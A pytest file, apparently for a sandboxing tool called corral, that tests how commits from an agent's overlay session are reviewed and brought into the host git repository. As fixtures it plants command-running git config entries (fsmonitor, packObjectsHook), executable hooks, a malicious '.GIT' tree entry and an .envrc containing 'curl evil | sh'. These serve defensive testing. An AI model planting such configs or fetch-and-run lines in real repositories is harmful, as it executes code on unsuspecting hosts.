"""Overlay review that fits git: `.git` internals left out of `changes`/`apply`, and a session's
new commits fetched into the real repository as refs (never its raw `.git` files), so that the
host's own `git status` and commits between the run and the apply cause no conflict.

Sessions are made by real `corral run --workspace overlay` runs (root and unprivileged), or, to
plant what a sandbox cannot write (a session `.git/config` with a command, a hook), by the
raw overlay mount of test_sessions. Every host-side git runs as the launcher.
"""

from __future__ import annotations

import hashlib
import os
import subprocess
from pathlib import Path

import pytest

from test_sessions import _state, corral, overlay

from corral.workspace import changes as changes_mod
from corral.workspace import gitcommits

IDENT = {"GIT_AUTHOR_NAME": "host", "GIT_AUTHOR_EMAIL": "host@example.com", "GIT_COMMITTER_NAME": "host",
         "GIT_COMMITTER_EMAIL": "host@example.com"}
SESSION_GIT = "git -c user.name=agent -c user.email=agent@example.com"


def hgit(ws, *args, check=True) -> subprocess.CompletedProcess:
    """git on the host, as the launcher, without system or global config."""
    env = {**ws.launcher.env, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null", **IDENT}
    proc = subprocess.run([*ws.launcher.prefix, "git", "-c", "safe.directory=*", "-C", str(ws.proj), *args],
                          env=env, capture_output=True, text=True, timeout=60)
    if check:
        assert proc.returncode == 0, (args, proc.stderr)
    return proc


def host_repo(ws) -> str:
    """A first host commit of the workspace; returns the checked-out branch name."""
    hgit(ws, "add", "-A")
    hgit(ws, "commit", "-q", "-m", "host1")
    return hgit(ws, "symbolic-ref", "--short", "HEAD").stdout.strip()


def session_run(ws, script: str, name="s1") -> subprocess.CompletedProcess:
    proc = corral(ws, "run", "--workspace", "overlay", "--session", name, "-c", script)
    assert proc.returncode == 0, proc.stderr
    return proc


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_session_commit_arrives_as_a_ref_while_the_host_commits_meanwhile(launcher, ws):
    branch = host_repo(ws)
    session_run(ws, f"echo agent >> README.txt && echo new > s.txt && git add -A && "
                    f"{SESSION_GIT} commit -q -m session-commit && echo wip > wip.txt")
    # the host works on meanwhile: status (rewrites the index), a commit of its own
    hgit(ws, "status", "--porcelain")
    ws.write("host.txt", "host\n")
    hgit(ws, "add", "host.txt")
    hgit(ws, "commit", "-q", "-m", "host2")
    host_head = hgit(ws, "rev-parse", "HEAD").stdout.strip()
    index_before = digest(ws.proj / ".git" / "index")
    head_log_before = digest(ws.proj / ".git" / "logs" / "HEAD")

    # changes: git internals counted, not listed (unless asked)
    proc = corral(ws, "changes", "s1")
    assert proc.returncode == 0, proc.stderr
    assert ".git/" not in proc.stdout and "wip.txt" in proc.stdout, proc.stdout
    assert "inside .git/ not shown" in proc.stderr and "the session committed in .git/" in proc.stderr, proc.stderr
    proc = corral(ws, "changes", "s1", "--include-git")
    assert ".git/objects/" in proc.stdout and ".git/refs/heads/" in proc.stdout, proc.stdout

    proc = corral(ws, "apply", "s1")
    assert proc.returncode == 0, proc.stderr
    ref = f"refs/corral/s1/heads/{branch}"
    assert f"fetched 1 commit of session 's1' into .git/ as {ref}" in proc.stderr, proc.stderr
    assert f"merge {ref}`" in proc.stderr, proc.stderr  # diverged: a real merge, no --ff-only
    # only the uncommitted file was applied as a file; nothing of .git was copied
    assert proc.stdout.split() == ["added", "wip.txt"], proc.stdout
    assert hgit(ws, "log", "--format=%s", ref).stdout.split() == ["session-commit", "host1"]
    assert hgit(ws, "rev-parse", "HEAD").stdout.strip() == host_head  # the branch did not move
    assert digest(ws.proj / ".git" / "index") == index_before
    assert digest(ws.proj / ".git" / "logs" / "HEAD") == head_log_before
    assert (ws.proj / "README.txt").read_text() == "readme\n"  # the commit's files come with the merge
    assert hgit(ws, "status", "--porcelain").stdout.split() == ["??", "wip.txt"]
    hgit(ws, "fsck", "--no-progress")
    # the printed command merges it: both histories, no conflict
    hgit(ws, "merge", "-q", "--no-edit", ref)
    assert (ws.proj / "README.txt").read_text() == "readme\nagent\n" and (ws.proj / "host.txt").exists()
    assert (ws.proj / "s.txt").read_text() == "new\n"
    assert hgit(ws, "status", "--porcelain").stdout.split() == ["??", "wip.txt"]
    # nothing is left to review but the git internals; applying again fetches nothing new
    proc = corral(ws, "changes", "s1")
    assert proc.stdout == "" and "are fetched as" in proc.stderr, proc.stderr
    proc = corral(ws, "apply", "s1")
    assert proc.returncode == 0 and "(unchanged)" in proc.stderr and "already in" in proc.stderr, proc.stderr


def test_apply_ff_fast_forwards_the_checked_out_branch(launcher, ws):
    branch = host_repo(ws)
    session_run(ws, f"echo agent >> README.txt && git rm -q src/main.py && {SESSION_GIT} commit -q -am one && "
                    f"echo two > two.txt && git add two.txt && {SESSION_GIT} commit -q -m two")
    session_head = None
    proc = corral(ws, "apply", "s1", "--dry-run")
    assert proc.returncode == 0, proc.stderr
    assert f"fetch   .git/ refs/corral/s1/heads/{branch}" in proc.stdout and "write" not in proc.stdout, proc.stdout
    assert "would fetch 2 commits" in proc.stderr, proc.stderr
    assert hgit(ws, "for-each-ref", "refs/corral").stdout == ""  # a dry run fetches nothing
    proc = corral(ws, "apply", "s1", "--ff")
    assert proc.returncode == 0, proc.stderr
    assert f"fast-forwarded {branch} to refs/corral/s1/heads/{branch} (3 files of the workspace come with them)" \
        in proc.stderr, proc.stderr
    session_head = hgit(ws, "rev-parse", f"refs/corral/s1/heads/{branch}").stdout.strip()
    assert hgit(ws, "rev-parse", "HEAD").stdout.strip() == session_head
    assert hgit(ws, "log", "--format=%s").stdout.split() == ["two", "one", "host1"]
    assert hgit(ws, "status", "--porcelain").stdout == ""
    assert (ws.proj / "README.txt").read_text() == "readme\nagent\n" and not (ws.proj / "src/main.py").exists()
    assert corral(ws, "changes", "s1").stdout == ""


def test_no_commits_applies_the_files_and_leaves_git_alone(launcher, ws):
    host_repo(ws)
    session_run(ws, f"echo agent >> README.txt && {SESSION_GIT} commit -q -am one")
    proc = corral(ws, "apply", "s1", "--no-commits")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == ["modified", "README.txt"] and "fetch" not in proc.stderr, proc.stderr
    assert hgit(ws, "for-each-ref", "refs/corral").stdout == ""
    assert hgit(ws, "log", "--format=%s").stdout.split() == ["host1"]
    assert corral(ws, "apply", "s1", "--ff", "--no-commits").returncode == 2


def test_session_git_config_hooks_and_alternates_never_run_during_apply(launcher, ws):
    """A session whose .git holds a command-running config, hooks and an alternates file (what a
    sandbox cannot write; planted here on the raw overlay): apply fetches the commit with none of
    them read or run."""
    host_repo(ws)
    mark = ws.base / "MARK"
    elsewhere = ws.base / "elsewhere"
    elsewhere.mkdir()
    ws.chown()
    hook = f"#!/bin/sh\ntouch {mark}\n"
    overlay(ws, f"export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null HOME=/nonexistent\n"
                f"echo agent >> README.txt\n{SESSION_GIT} -c core.hooksPath=/nonexistent commit -q -am one\n"
                f"printf '[core]\\n\\tfsmonitor = touch {mark}\\n\\thooksPath = hooks\\n"
                f"[uploadpack]\\n\\tpackObjectsHook = touch {mark}\\n' >> .git/config\n"
                f"for h in reference-transaction pre-upload post-checkout post-merge fsmonitor-watchman; do "
                f"printf '{hook}' > .git/hooks/$h; chmod +x .git/hooks/$h; done\n"
                f"echo {elsewhere} > .git/objects/info/alternates\n")
    proc = corral(ws, "apply", "s1", "--ff")
    assert proc.returncode == 0, proc.stderr
    assert "fast-forwarded" in proc.stderr, proc.stderr
    hgit(ws, "status")
    assert not mark.exists()
    assert "fsmonitor" not in (ws.proj / ".git/config").read_text()
    assert not (ws.proj / ".git/objects/info/alternates").exists()
    assert hgit(ws, "log", "--format=%s").stdout.split() == ["one", "host1"]


def test_a_corrupt_object_in_the_session_is_refused_by_fsck(launcher, ws):
    """A session commit whose tree holds a `.git` entry (what git's checker refuses: it would
    plant a git directory on checkout) is not fetched; nothing changes."""
    host_repo(ws)
    overlay(ws, "export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null HOME=/nonexistent\n"
                "blob=$(echo evil | git hash-object -w --stdin)\n"
                "inner=$(printf '100644 blob %s\\tconfig\\n' $blob | git mktree)\n"
                "tree=$(printf '040000 tree %s\\t.GIT\\n' $inner | git mktree)\n"
                f"c=$({SESSION_GIT} commit-tree -p HEAD -m evil $tree)\n"
                "git update-ref HEAD $c\n")
    proc = corral(ws, "apply", "s1")
    assert proc.returncode == 125 and "git fetch failed" in proc.stderr, proc.stderr
    assert hgit(ws, "for-each-ref", "refs/corral").stdout == ""
    assert hgit(ws, "log", "--format=%s").stdout.split() == ["host1"]


def test_new_repository_is_counted_in_changes_and_applied_whole(launcher, ws):
    session_run(ws, f"mkdir lib && cd lib && git init -q && echo x > x.txt && git add x.txt && "
                    f"{SESSION_GIT} commit -q -m lib1")
    proc = corral(ws, "changes", "s1")
    assert proc.stdout.split() == ["added", "lib/x.txt"], proc.stdout
    assert "new git repository lib/.git/" in proc.stderr, proc.stderr
    proc = corral(ws, "apply", "s1")
    assert proc.returncode == 0, proc.stderr
    env = {**ws.launcher.env, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null"}
    log = subprocess.run([*ws.launcher.prefix, "git", "-c", "safe.directory=*", "-C", str(ws.proj / "lib"), "log",
                          "--format=%s"], env=env, capture_output=True, text=True)
    assert log.stdout.split() == ["lib1"], log.stderr


# ---------------------------------------------------------------- pure parts

@pytest.mark.parametrize("name,ok", [
    ("refs/heads/main", True), ("refs/heads/feature/x-1", True), ("refs/tags/v1.0", True),
    ("refs/remotes/origin/main", False), ("HEAD", False), ("refs/heads/../x", False), ("refs/heads/.x", False),
    ("refs/heads/x.lock", False), ("refs/heads/a//b", False), ("refs/heads/a@{1}", False),
    ("refs/heads/-x", False), ("refs/heads/a b", False), ("refs/heads/\x1b[2J", False), ("refs/heads/x/", False),
])
def test_ref_names(name, ok):
    assert gitcommits.is_ref_name(name) is ok


def test_packed_refs_parse():
    data = (b"# pack-refs with: peeled fully-peeled sorted\n" + b"a" * 40 + b" refs/heads/main\n" + b"^" + b"b" * 40 +
            b"\n" + b"c" * 40 + b" refs/tags/v1\n" + b"zz refs/heads/bad\n" + b"d" * 40 + b" refs/heads/../evil\n")
    assert gitcommits.parse_packed_refs(data) == {"refs/heads/main": "a" * 40, "refs/tags/v1": "c" * 40}


def test_merged_view_whiteouts_opaque_dirs_and_symlinks(tmp_path):
    lower, upper = tmp_path / "lower", tmp_path / "upper"
    for rel, text in {"refs/heads/main": "1" * 40, "refs/heads/gone": "2" * 40, "refs/tags/old/t": "3" * 40,
                      "packed-refs": "4" * 40 + " refs/heads/packed\n"}.items():
        (lower / rel).parent.mkdir(parents=True, exist_ok=True)
        (lower / rel).write_text(text + "\n")
    (upper / "refs/heads").mkdir(parents=True)
    (upper / "refs/heads/main").write_text("5" * 40 + "\n")
    (upper / "refs/heads/new").write_text("6" * 40 + "\n")
    os.symlink("/etc", upper / "refs/heads/link")
    if os.geteuid() != 0:
        pytest.skip("whiteouts (0:0 character devices) need root to be made outside an overlay")
    os.mknod(upper / "refs/heads/gone", 0o600 | 0o020000, os.makedev(0, 0))
    (upper / "refs/tags").mkdir()
    os.setxattr(upper / "refs/tags", "user.overlay.opaque", b"y")
    view = gitcommits.View(str(upper), str(lower))
    assert gitcommits.read_refs(view) == {"refs/heads/main": "5" * 40, "refs/heads/new": "6" * 40,
                                          "refs/heads/packed": "4" * 40}
    assert gitcommits.read_refs(gitcommits.View(None, str(lower)))["refs/heads/gone"] == "2" * 40


@pytest.mark.parametrize("rel,is_dir,where", [
    (".git/objects/ab/cd", False, ".git"), (".git", True, ".git"), ("src/.git/HEAD", False, "src/.git"),
    ("src/x.py", False, None), (".gitignore", False, None), ("bare.git/refs/heads/main", False, "bare.git"),
    ("sub/.git", False, None),  # a gitfile: a pointer, not a git directory
])
def test_git_dir_of(rel, is_dir, where):
    names = {"bare.git": {"HEAD", "objects", "refs"}}
    assert changes_mod.git_dir_of(rel, is_dir, lambda d: names.get(d, set())) == where


def test_covered_paths_are_those_the_commit_carries(tmp_path):
    C = changes_mod.Change
    upper = tmp_path
    (upper / "a.txt").write_text("new\n")
    (upper / "b.txt").write_text("uncommitted\n")
    (upper / "same.txt").write_text("same\n")
    blob = lambda t: ("100644", gitcommits.blob_id(t.encode(), "sha1"))  # noqa: E731
    tree_new = {"a.txt": blob("new\n"), "b.txt": blob("committed\n"), "same.txt": blob("same\n")}
    tree_base = {"a.txt": blob("old\n"), "b.txt": blob("old\n"), "same.txt": blob("same\n"), "gone.txt": blob("x\n"),
                 "kept.txt": blob("k\n")}
    changes = [C("modified", "a.txt", type_old="file", type_new="file"),
               C("modified", "b.txt", type_old="file", type_new="file"),
               C("modified", "same.txt", type_old="file", type_new="file"),
               C("deleted", "gone.txt", type_old="file"), C("deleted", "kept.txt", type_old="file")]
    tree_new_without_gone = dict(tree_new, **{"kept.txt": blob("k\n")})
    got = gitcommits.covered_paths(changes, "", str(upper), tree_new_without_gone, tree_base, "sha1")
    # a.txt: committed as is; gone.txt: the commit deletes it. b.txt differs from the commit,
    # same.txt and kept.txt were not changed by it: applied as files
    assert got == {"a.txt", "gone.txt"}


def test_dangerous_files_committed_in_the_session_are_never_merged(launcher, ws):
    """A session commits a planted .envrc, .bashrc and .vscode/tasks.json, then removes them
    from its working tree: `apply --ff` refuses to fast-forward, says which paths, and the
    host's working tree never holds them; the merge command is not offered either."""
    branch = host_repo(ws)
    session_run(ws, "mkdir -p .vscode deep/x && echo 'curl evil | sh' > .envrc && echo evil > .bashrc && "
                    "echo '{\"tasks\": []}' > .vscode/tasks.json && echo evil > deep/x/.bashrc && "
                    f"git add -f .envrc .bashrc .vscode deep && {SESSION_GIT} commit -q -m plant && "
                    "git rm -q -r --cached .envrc .bashrc .vscode deep && rm -rf .envrc .bashrc .vscode deep && "
                    f"git reset -q --hard HEAD && rm -rf .envrc .bashrc .vscode deep")
    proc = corral(ws, "apply", "s1", "--ff")
    assert proc.returncode == 1, proc.stderr
    assert "dangerous path" in proc.stderr and ".envrc" in proc.stderr, proc.stderr
    assert "merge --ff-only" not in proc.stderr
    for rel in (".envrc", ".vscode/tasks.json", "deep/x/.bashrc"):
        assert not (ws.proj / rel).exists(), rel
    assert hgit(ws, "symbolic-ref", "--short", "HEAD").stdout.strip() == branch
    assert hgit(ws, "log", "--format=%s").stdout.split() == ["host1"]
